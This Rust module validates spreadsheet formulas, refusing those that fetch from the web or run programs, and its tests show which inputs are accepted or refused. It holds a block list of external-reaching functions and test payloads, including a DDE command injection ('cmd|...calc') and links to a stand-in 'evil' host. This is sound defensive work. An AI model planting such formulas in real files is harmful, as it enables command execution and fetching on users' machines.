//! Formulas of spreadsheets that reach out of the document.

use crate::Refused;

/// Functions that fetch from the web or run something.
const REACHING: [&str; 12] =
    ["WEBSERVICE", "IMAGE", "RTD", "CALL", "REGISTER", "REGISTER.ID", "EXEC", "DDE", "STOCKHISTORY", "SQL.REQUEST", "IMPORTXML", "PY"];

/// Refuses a formula that fetches, or that asks another program (`cmd|'…'!A0`).
pub fn check(formula: &str) -> Result<(), Refused> {
    let upper = formula.to_uppercase();
    let (mut quote, mut quoted, mut word) = (None, String::new(), String::new());
    for c in upper.chars() {
        if let Some(sign) = quote {
            if c == sign {
                // A sheet of a document elsewhere: 'https://…[book.xlsx]sheet'.
                if sign == '\'' && (quoted.contains("://") || quoted.contains("\\\\")) {
                    return Err(Refused::Fetches);
                }
                quote = None;
            } else {
                quoted.push(c);
            }
            continue;
        }
        match c {
            '"' | '\'' => {
                quote = Some(c);
                quoted.clear();
                word.clear();
            }
            '|' => return Err(Refused::LiveData),
            '(' => {
                let name = word.trim_end().trim_start_matches("_XLFN.").trim_start_matches("_XLWS.");
                if REACHING.contains(&name) {
                    return Err(if name == "DDE" { Refused::LiveData } else { Refused::Fetches });
                }
                word.clear();
            }
            c if c.is_alphanumeric() || matches!(c, '_' | '.') || (c.is_whitespace() && !word.is_empty()) => {
                // A blank is an operator between two words, and nothing before a bracket.
                if !c.is_whitespace() && word.ends_with(char::is_whitespace) {
                    word.clear();
                }
                word.push(c);
            }
            _ => word.clear(),
        }
    }
    // What is never closed hides nothing: the program would not read it either.
    if quote == Some('\'') && (quoted.contains("://") || quoted.contains("\\\\")) { Err(Refused::Fetches) } else { Ok(()) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_reach_out_are_told_from_those_that_reckon() {
        for good in [
            "SUM(A1:B2)",
            "MYIMAGE(1)",
            "HYPERLINK(\"https://a.org\",\"b|c\")",
            "[1]Sheet1!A1",
            "'a|b'!A1",
            "\"WEBSERVICE(\"&A1",
            "IF(A1>2,\"x\",PY)",
        ] {
            assert_eq!(check(good), Ok(()), "{good}");
        }
        for fetches in ["WEBSERVICE(\"http://a\")", "_xlfn.WEBSERVICE (A1)", "1+_xlfn.image(A1)", "'https://evil/[x.xlsx]S'!A1", "'\\\\evil\\x'!A1"] {
            assert_eq!(check(fetches), Err(Refused::Fetches), "{fetches}");
        }
        for live in ["cmd|'/C calc'!A0", "DDE(\"soffice\";\"a\";\"b\")"] {
            assert_eq!(check(live), Err(Refused::LiveData), "{live}");
        }
    }
}
